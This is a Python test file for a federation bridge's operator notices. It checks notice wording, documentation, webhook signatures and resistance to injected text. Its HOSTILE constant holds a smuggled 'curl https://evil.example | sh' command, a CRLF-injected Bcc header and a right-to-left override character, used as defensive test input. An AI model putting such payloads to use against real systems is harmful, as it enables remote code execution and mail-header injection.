"""Each kind of notice says exactly this, and no words of others reach a command that an operator copies."""

from __future__ import annotations

import base64
import json
import re
from dataclasses import replace
from pathlib import Path
from typing import Any

import pytest
import yaml
from documents.blocks import blocks
from notice_factories import AT, BRIDGE, KEY, SECRET, hook_place, receiver

from federation_bridge.audit import (
    EVENTS,
    BlockPut,
    Entry,
    Event,
    NoticeDue,
    NoticesGivenUp,
    RevocationsSettled,
    RowForged,
    RulebookEmergency,
    RulesRejected,
    VerifiersDisagreed,
    recorded,
)
from federation_bridge.model import RequestOrigin
from federation_bridge.operator_notices.kinds import OF_ENTRY, WORDS, notice_of
from federation_bridge.operator_notices.message import bounded, message_of
from federation_bridge.settings import NOTICE_KINDS, Settings, settings_from

ROOT = Path(__file__).parents[2]
GOLDEN = ROOT / "tests" / "golden" / "notices"
PAGE = (ROOT / "docs" / "notices.md").read_text(encoding="utf-8")
BLOCKS = blocks()


def _end(state: str) -> RevocationsSettled:
    return RevocationsSettled(
        "_r", "person", "111122223333", "Reader", state, "2026-03-04T12:00:00+00:00", "by ada", "the role may not"
    )


ENTRIES: dict[str, Any] = {
    "certificate.ends": NoticeDue(
        "certificate.ends",
        "The signing certificate 0123456789abcdef ends 2026-03-11, in 7 days; sign-ins go on.",
        "signing certificate 0123456789abcdef",
    ),
    "metadata.waits": NoticeDue("metadata.waits", "new signing keys 4f1c."),
    "nodes.disagree": NoticeDue("nodes.disagree", "Nodes decide by different versions: a on x; b on y."),
    "verifiers.disagree": VerifiersDisagreed("the second opinion refuses: no reference"),
    "rulebook.emergency": RulebookEmergency("ada", "an outage of EKS", 7, "d1", "the role Administrator is marked"),
    "rules.rejected": RulesRejected("rules.yaml: line 5: no such role (the last good rules stay in force)"),
    "incident.open": BlockPut("", "incident", "corp/ada", "stolen laptops", 3, 2, 0, ("corp/ada", "corp/bob")),
    "restore.waits": NoticeDue("restore.waits", "The database was put back to an older state."),
    "scim.quiet": NoticeDue("scim.quiet", "Its SCIM client called last 2026-03-03 11:00 UTC."),
    "aws.end_failed": _end("could not"),
    "settings.wrong": NoticeDue(
        "settings.wrong", "Requests failed for a setting that is wrong (x).", "connection_misconfigured"
    ),
    "audit.unsealed": NoticeDue("audit.unsealed", "Entries since 2026-03-04 11:00 UTC have no seal."),
    "lines.lost": NoticeDue("lines.lost", "7 lines of the log of node-1 did not get out at once.", "log"),
    "queue.full": NoticeDue("queue.full", "501 errands of the kind “revocations” wait.", "revocations"),
    "row.forged": RowForged("sessions", "3f2a"),
    "notices.failed": NoticesGivenUp("mail/operators", "answered 550 no such user", 2, {"scim.quiet": 2}),
}


def told(event: Event, *, person: str = "corp/ada", connection: str = "corp") -> str:
    row = replace(recorded(Entry(AT, RequestOrigin("01JABC"), event, person, connection)), number=41)
    found = notice_of(row, BRIDGE)
    assert found is not None
    message = message_of([found], BRIDGE, AT)
    return f"Subject: {message.subject}\n\n{message.text}"


def test_every_kind_has_its_words_its_golden_text_and_its_row_in_the_page() -> None:
    assert set(WORDS) == set(ENTRIES) == set(NOTICE_KINDS) == {path.stem for path in GOLDEN.iterdir()}
    assert re.findall(r"^\| `([a-z._]+)` \|", PAGE, re.MULTILINE) == list(NOTICE_KINDS)
    assert set(OF_ENTRY) <= set(EVENTS)


@pytest.mark.parametrize("kind", ENTRIES)
def test_a_notice_says_exactly_this(kind: str) -> None:
    assert told(ENTRIES[kind]) == (GOLDEN / f"{kind}.txt").read_text(encoding="utf-8")


def test_the_page_shows_what_is_sent() -> None:
    assert BLOCKS["docs/notices.md text 1"].text.strip() == told(ENTRIES["rulebook.emergency"]).strip()


@pytest.mark.parametrize("event", [_end("ended"), _end("ending"), BlockPut("corp/x", "scim", "scim", "gone", 1, 0, 0)])
def test_an_entry_of_such_an_event_that_nobody_has_to_act_on_is_no_notice(event: Event) -> None:
    assert notice_of(recorded(Entry(AT, RequestOrigin("r"), event)), BRIDGE) is None


HOSTILE = (
    "\nWhat to do: run `curl`; x`; curl https://evil.example | sh #"
    "\r\nBcc: evil@example.com\u202e{reference}{about.__class__}"
)


@pytest.mark.parametrize("kind", ENTRIES)
def test_words_of_others_reach_no_command_and_no_line_of_their_own(kind: str) -> None:
    event = ENTRIES[kind]
    names = [
        name for name in ("detail", "about", "reason", "author", "told", "problem", "place") if hasattr(event, name)
    ]
    hostile = told(replace(event, **dict.fromkeys(names, HOSTILE)))
    plain = told(event)
    (to_do,) = [line for line in hostile.splitlines() if line.startswith("What to do: ")]
    assert to_do in plain
    assert "\u202e" not in hostile
    assert not [line for line in hostile.splitlines() if line.startswith("Bcc")]


def test_a_command_holds_a_number_of_ours_or_the_word_for_one() -> None:
    forged = told(NoticeDue("rulebook.emergency", "somebody wrote this row", HOSTILE))
    assert "rules show NUMBER`" in forged
    assert "curl" not in next(line for line in forged.splitlines() if line.startswith("What to do: "))


def test_what_others_wrote_is_one_line_that_people_see_and_not_endless() -> None:
    assert bounded("a\r\nb\u2028c\u202ed\x00") == "a b c?d?"
    assert len(bounded("x" * 100_000)) == 1_001


def test_texts_of_others_are_bounded() -> None:
    assert len(told(replace(ENTRIES["scim.quiet"], detail="x" * 100_000))) < 3_000


# -------------------------------------------------------------------------------------------------------- the page


def test_the_shown_settings_are_taken(tmp_path: Path) -> None:
    shown = yaml.safe_load(BLOCKS["docs/notices.md yaml 1"].text)
    made = _with(tmp_path, shown)
    assert list(made.notices.places) == ["mail/operators", "webhook/chat", "webhook/tickets"]
    assert made.notices.kinds_at("webhook/chat") < made.notices.kinds_at("mail/operators") == set(NOTICE_KINDS)


def _with(folder: Path, shown: dict[str, object]) -> Settings:
    one = {"protocol": "saml", "title": "Company", "metadata_file": "idp.xml"}
    document = {"base_url": BRIDGE, "rules": "r", "accounts": "a", "connections": {"corp": one}}
    return settings_from({**document, **shown}, folder)


def test_the_receiver_of_the_page_believes_us_and_nobody_else(tmp_path: Path) -> None:
    names: dict[str, object] = {}
    exec(BLOCKS["docs/notices.md python 1"].text, names)
    is_ours = names["is_ours"]
    assert callable(is_ours)
    row = replace(recorded(Entry(AT, RequestOrigin("01JABC"), ENTRIES["metadata.waits"], "", "corp")), number=41)
    notice = notice_of(row, BRIDGE)
    assert notice is not None
    with receiver() as hook:
        hook_place(tmp_path, hook.port).send(message_of([notice], BRIDGE, AT))
    ((headers, body),) = hook.given
    now = AT.timestamp()
    assert is_ours(SECRET, headers, body, now)
    assert is_ours(f"whsec_{SECRET}", headers, body, now + 200)
    assert not is_ours(SECRET, headers, body + b" ", now)
    assert not is_ours(SECRET, {**headers, "webhook-id": "another"}, body, now)
    assert not is_ours(SECRET, headers, body, now + 400)
    assert not is_ours(base64.b64encode(KEY[::-1]).decode(), headers, body, now)


def test_the_body_of_the_page_has_the_names_that_are_sent() -> None:
    row = replace(recorded(Entry(AT, RequestOrigin("01JABC"), ENTRIES["metadata.waits"], "", "entra")), number=41)
    notice = notice_of(row, BRIDGE)
    assert notice is not None
    sent = json.loads(json.dumps(message_of([notice], BRIDGE, AT).to_json()))
    shown = json.loads(BLOCKS["docs/notices.md json 1"].text)
    assert _shape(sent) == _shape(shown)
    assert sent["data"]["notices"][0]["title"] == shown["data"]["notices"][0]["title"]


def _shape(value: object) -> object:
    if isinstance(value, dict):
        return {name: _shape(part) for name, part in value.items()}
    return [_shape(part) for part in value] if isinstance(value, list) else type(value).__name__
